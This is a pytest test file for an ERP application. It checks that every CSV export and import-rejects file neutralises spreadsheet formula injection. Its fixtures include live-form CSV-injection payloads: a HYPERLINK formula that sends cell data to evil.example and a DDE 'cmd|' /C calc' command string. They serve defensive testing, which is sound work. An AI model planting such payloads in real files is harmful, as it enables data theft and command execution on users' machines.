"""CSV injection (issue 13): every CSV we hand out goes through erp.csv_writer, which
writes a cell that a spreadsheet would run as a formula with a leading ``'``, and leaves
numbers alone. One test per CSV route: each report the registry lists, and the import's
rejects file on the web, the CLI and the API."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from flask_babel import force_locale

from erp import csv_writer
from erp.api.tokens import create_token
from erp.auth.models import User
from erp.db import db
from erp.registry import Report
from erp.reports import MONEY, Column, ReportTable, Row, csv_response
from modules.crm.models import Action, LossReason, Stage
from tests.conftest import csrf_token, login_as
from tests.crm.conftest import pipeline  # noqa: F401 (fixture)
from tests.crm.reports_history import P, jan, make
from tests.erp.importing import csv_bytes, import_dir_fixture  # noqa: F401 (fixture)
from tests.reporting import csv_rows

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Silva")'
SAFE = "'" + FORMULA
JANUARY = {"start": "2026-01-01", "end": "2026-01-31"}


# --- the writer ------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", [
    FORMULA, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=", "-", "+", "@x",
    "  =1+1", "+55 11 98765-4321", "-1-1", "--1", "-1e5+cmd|' /C calc'!A0"])
def test_formula_cells_get_a_leading_quote(cell):
    assert csv_writer.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    -12, 0, Decimal("-12.50"), -0.5, "-12,50", "-12.50", "-1.234,56", "-1,234.56", "+5",
    "-0", " -3", "1e5", "-2E-3", "Silva", "a=b", "R$ -5,00", "", "100%"])
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert csv_writer.neutralise(cell) == cell


def test_the_writer_quotes_what_it_must_and_neutralises_every_cell():
    buffer = io.StringIO()
    writer = csv_writer.writer(buffer, delimiter=";", lineterminator="\n")
    writer.writerow([FORMULA, -7, None, "a;b", "-7,25"])
    writer.writerows([["@x"], [True]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) == [
        [SAFE, "-7", "", "a;b", "-7,25"], ["'@x"], ["True"]]


def test_report_csv_keeps_negative_numbers_numeric_in_both_languages(app):
    table = ReportTable([Column("name", "Name"), Column("value", "Value", MONEY)],
                        [Row(("-Refund", Decimal("-12.5"))), Row((FORMULA, Decimal("3")))],
                        footer=Row(("=Total", Decimal("-9.5"))))
    for locale, figures in (("en", ["-12.50", "3.00", "-9.50"]),
                            ("pt_BR", ["-12,50", "3,00", "-9,50"])):
        with app.test_request_context(), force_locale(locale):
            body = csv_response("x.csv", table).get_data(as_text=True)
        delimiter = ";" if locale == "pt_BR" else ","
        rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=delimiter))
        assert [r[1] for r in rows[1:]] == figures
        assert [r[0] for r in rows[1:]] == ["'-Refund", SAFE, "'=Total"]


# --- every report the registry lists ---------------------------------------------------------


def _actions(app, users, make_account, pipeline):  # noqa: F811
    with app.app_context():
        db.session.get(User, users["rep_a"]).name = FORMULA
        db.session.commit()
    account = make_account(owner="rep_a")
    now = datetime.now(UTC)
    with app.app_context():
        db.session.add(Action(account_id=account, kind="call", user_id=users["rep_a"],
                              at=now - timedelta(days=1), done=True, description="x"))
        db.session.commit()
    period = {"start": (now - timedelta(days=5)).date().isoformat(),
              "end": (now + timedelta(days=5)).date().isoformat()}
    return [("/crm/reports/actions", period)]


def _rename(app, model, name: str, new: str) -> None:
    with app.app_context():
        db.session.scalars(db.select(model).where(model.name == name)).one().name = new
        db.session.commit()


def _funnel(app, users, make_account, pipeline):  # noqa: F811
    make(app, users, pipeline, make_account(owner="rep_a"), value="10",
         history=[(jan(5), "created", P)])
    _rename(app, Stage, P, FORMULA)
    return [("/crm/reports/funnel", JANUARY)]


def _losses(app, users, make_account, pipeline):  # noqa: F811
    reason = next(iter(pipeline["reasons"]))
    make(app, users, pipeline, make_account(owner="rep_a"), value="10", status="lost",
         loss_reason=reason, history=[(jan(5), "created", P), (jan(9), "status", "lost: x")])
    _rename(app, Stage, P, FORMULA)
    _rename(app, LossReason, reason, FORMULA)
    return [("/crm/reports/losses", {**JANUARY, "table": "reasons"}),
            ("/crm/reports/losses", {**JANUARY, "table": "stages"})]


def _aging(app, users, make_account, pipeline):  # noqa: F811
    from modules.finance.models import Receivable

    # The report names an account by its legal name (after its trade name when that
    # differs): a legal name that is a formula is the whole cell, a trade name its start.
    accounts = [make_account(owner="rep_a", legal_name=FORMULA),
                make_account(owner="rep_a", legal_name="Silva Ltda.", trade_name=FORMULA)]
    with app.app_context():
        db.session.add_all(Receivable(account_id=account, document="NF 1",
                                      issue_date=date(2025, 1, 1), due_date=date(2026, 1, 1),
                                      amount=Decimal("60")) for account in accounts)
        db.session.commit()
    return [("/finance/reports/aging", {"as_of": "2026-11-23"})]


# A report added to the registry without an entry here fails test_every_report_is_covered.
REPORTS = {"crm.actions": _actions, "crm.funnel": _funnel, "crm.losses": _losses,
           "finance.aging": _aging}


def test_every_report_is_covered(app):
    with app.app_context():
        listed = {report.key for report in app.extensions["erp"].items(
            Report, check_permission=False)}
    assert listed == set(REPORTS), "add the new report's formula test to REPORTS"


@pytest.mark.parametrize("key", sorted(REPORTS))
def test_a_formula_in_a_report_comes_out_neutralised(app, client, users, make_account,  # noqa: F811
                                                      pipeline, key):  # noqa: F811
    routes = REPORTS[key](app, users, make_account, pipeline)
    login_as(client, users["admin"])
    for url, query in routes:
        rows = csv_rows(client.get(url, query_string={**query, "format": "csv"}))
        cells = [cell for row in rows[1:] for cell in row]
        assert SAFE in cells, (url, query, rows)
        assert FORMULA not in cells
        assert not [c for c in cells if c and c[0] in "=+@\t\r"], rows


# --- the import's rejects file: web, CLI, API ------------------------------------------------


REJECTED = csv_bytes([["Razão Social", "CNPJ", "=1+2", "Saldo"],
                      [FORMULA, "123", "@SUM(A1)", "-12,50"]], ";")


def _check_rejects(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0][:4] == ["Razão Social", "CNPJ", "'=1+2", "Saldo"]
    assert rows[1][:4] == [SAFE, "123", "'@SUM(A1)", "-12,50"]
    assert rows[1][4].startswith("Row 2:")


@pytest.mark.usefixtures("import_dir")
def test_rejects_file_on_the_web(app, client, users):
    from tests.crm.test_importers_web import (
        job_id_from,
        mapping_data,
        upload,
        wait_until_finished,
    )

    login_as(client, users["rep_a"])
    job_id = job_id_from(upload(client, REJECTED))
    page = client.get(f"/imports/{job_id}/mapping").get_data(as_text=True)
    assert client.post(f"/imports/{job_id}/mapping", data=mapping_data(page)).status_code == 302
    token = csrf_token(client, f"/imports/{job_id}/preview")
    client.post(f"/imports/{job_id}/preview", data={"csrf_token": token})
    assert wait_until_finished(client, job_id)["rejected_rows"] == 1
    response = client.get(f"/imports/{job_id}/rejected.csv")
    assert response.status_code == 200
    _check_rejects(response.get_data().decode("utf-8"))


@pytest.mark.usefixtures("import_dir")
def test_rejects_file_from_the_command(app, users, tmp_path):
    path, out = tmp_path / "contas.csv", tmp_path / "rejeitadas.csv"
    path.write_bytes(REJECTED)
    result = app.test_cli_runner().invoke(args=["import", "accounts", str(path), "--user",
                                                "rep_a", "--rejected", str(out)])
    assert result.exit_code == 1, result.output
    _check_rejects(out.read_text("utf-8-sig"))


@pytest.mark.usefixtures("import_dir")
def test_rejects_file_over_the_api(app, client, users):
    with app.app_context():
        _row, token = create_token(db.session.get(User, users["rep_a"]), "imports")
        db.session.remove()
    headers = {"Authorization": f"Bearer {token}"}
    job = client.post("/api/v1/imports", headers=headers, content_type="multipart/form-data",
                      data={"kind": "accounts", "file": (io.BytesIO(REJECTED), "c.csv")}).json
    deadline = time.monotonic() + 30
    while not (body := client.get(f"/api/v1/imports/{job['id']}", headers=headers).json
               )["finished"] and time.monotonic() < deadline:
        time.sleep(0.05)
    response = client.get(body["rejected_url"], headers=headers)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    _check_rejects(response.get_data(as_text=True))
